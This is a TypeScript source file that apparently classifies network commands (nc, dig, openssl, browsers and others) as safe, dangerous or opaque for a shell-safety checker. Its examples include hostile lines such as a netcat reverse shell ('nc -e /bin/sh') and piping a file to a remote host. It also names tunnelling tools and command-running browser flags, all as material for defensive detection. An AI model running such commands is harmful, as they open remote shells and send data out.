/** Asking other machines, and plain connections. */

import { literal } from '../arg.ts';
import type { Call } from '../call.ts';
import { weighVariable } from '../environment.ts';
import type { Flags } from '../grammar.ts';
import { carries } from '../roles.ts';
import { type CommandSpec, words } from '../spec.ts';

/** What a substitution prints can leave in an option's value as well as in the name that is asked for. */
const judgeAsked = (call: Call): void => {
  if (call.flags.some(({ value }) => value !== undefined && carries(call, value))) call.mark('upload');
};

const asks = (names: string, flags: Flags = {}): CommandSpec => {
  const all = names.split(' ');
  return {
    names: all,
    flags,
    operands: ['...host'],
    judge: judgeAsked,
    examples: [
      [`${all[0]} example.org`, 'safe'],
      [`${all[0]} -c "$(head -1 a)" example.org`, 'dangerous'],
    ],
  };
};

const judgeNc = (call: Call): void => {
  if (call.has('-e', '-c', '--exec', '--sh-exec', '--lua-exec')) call.mark('remote-shell');
  if (call.has('-l', '--listen')) call.mark('listen');
  else if (
    !call.has('-z') &&
    call.scope.stdin.kind !== 'own' &&
    !(call.scope.stdin.kind === 'text' && call.scope.stdin.text === '')
  )
    call.mark('upload');
  else if (!call.has('-z')) call.unknown('an open connection');
};

/** Names that a desktop starts as programs. */
const STARTS = /\.(?:desktop|command|tool|app|sh|bash|py|pl|jar|run|appimage|workflow|scpt)$/i;

export const network: readonly CommandSpec[] = [
  {
    names: ['whois'],
    flags: { '-h --host -p --port': { value: 'none', does: ['network', '!upload'] } },
    operands: ['...host'],
    examples: [
      ['whois example.org', 'safe'],
      ['whois -h box a', 'dangerous'],
    ],
  },
  asks('ping ping6 arping', { '-c -i -W -w -s -t -p -I -M -m -l -S -Q': 'none' }),
  asks('traceroute traceroute6 tracepath mtr nslookup host', {
    '-c -i -W -w -s -t -p -q -I -m -f -N -R': 'none',
  }),
  {
    names: ['dig', 'drill', 'kdig', 'delv', 'fping'],
    flags: { '-f --file': { value: 'read', does: ['!upload'] }, '-t -c -p -b -k -y -q -i -r': 'none' },
    operands: ['...host'],
    examples: [
      ['dig +short example.org', 'safe'],
      ['dig -f names.txt', 'dangerous'],
    ],
  },
  {
    names: ['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd'],
    flags: { '-w -p -s -i -q -X -x': 'none', '-e -c --exec --sh-exec --lua-exec': 'unknown' },
    operands: ['host', 'none'],
    judge: judgeNc,
    examples: [
      ['nc -z box 80', 'safe'],
      ['nc -l 80', 'dangerous'],
      ['nc -e /bin/sh box 80', 'opaque'],
      ['cat a | nc box 80', 'dangerous'],
    ],
  },
  {
    names: words(
      'socat telnet ftp lftp tftp smbclient ncftp nmap masscan hping3 tcpdump tshark ngrep chisel ngrok cloudflared sshfs mail mailx sendmail mutt swaks gost frpc',
    ),
    does: ['network', 'unknown'],
    examples: [
      ['socat a b', 'opaque'],
      ['telnet box', 'opaque'],
    ],
  },
  {
    names: ['openssl'],
    subcommands: {
      s_client: {
        style: 'long',
        flags: { '-connect -servername -starttls -CAfile -proxy': 'host' },
        does: ['network'],
        judge: (call) => {
          if (call.scope.stdin.kind === 'pipe' || call.scope.stdin.kind === 'file') call.mark('upload');
        },
      },
      // the certificate is public, also where its key lies in the same file
      x509: { style: 'long', flags: { '-in': 'look', '-out': 'write', '-signkey -key -CAkey': 'read' } },
      crl: { style: 'long', flags: { '-in': 'look', '-out': 'write' } },
      version: {},
      ciphers: {},
      rand: { style: 'long', flags: { '-out': 'write' } },
      passwd: {},
      dgst: { style: 'long', flags: { '-out': 'write', '-engine -provider-path': 'unknown' }, operands: ['...read'] },
      enc: {
        style: 'long',
        flags: {
          '-in': 'read',
          '-out': 'write',
          '-k -K -iv -pass -S -kfile': 'none',
          '-engine -provider-path': 'unknown',
        },
      },
      verify: { style: 'long', flags: { '-CAfile -untrusted': 'look' }, operands: ['...look'] },
      req: {
        style: 'long',
        flags: { '-in -config': 'read', '-out -keyout': 'write', '-engine': 'unknown', '-subj -newkey -days': 'none' },
      },
      genrsa: { style: 'long', flags: { '-out': 'write' } },
      genpkey: { style: 'long', flags: { '-out': 'write' } },
    },
    examples: [
      ['openssl s_client -connect example.org:443', 'safe'],
      ['openssl x509 -in a.crt -noout', 'safe'],
      ['openssl x509 -in a.pem -noout -subject', 'safe'],
      ['openssl x509 -req -in a.csr -signkey a.key', 'dangerous'],
      ['openssl enc -d -base64 -in a', 'safe'],
      ['openssl s_server -port 1', 'opaque'],
    ],
  },
  {
    names: words('xdg-open open start sensible-browser firefox google-chrome chromium gnome-open'),
    does: ['write'],
    operands: ['...none'],
    judge: (call) => {
      for (const arg of call.operands) {
        if (/^https?:/.test(arg.text)) call.play('url', arg);
        if (STARTS.test(arg.text)) call.unknown(`${arg.text} is started`);
      }
      for (const arg of call.args)
        if (
          /^--(?:renderer-cmd-prefix|gpu-launcher|utility-cmd|load-extension|browser-subprocess)|^-a/.test(arg.text) &&
          call.name !== 'open'
        )
          call.unknown('a browser flag that runs a command');
      weighVariable(call, 'BROWSER', literal(''));
    },
    examples: [
      ['xdg-open a.pdf', 'write'],
      ['open a.command', 'opaque'],
    ],
  },
];
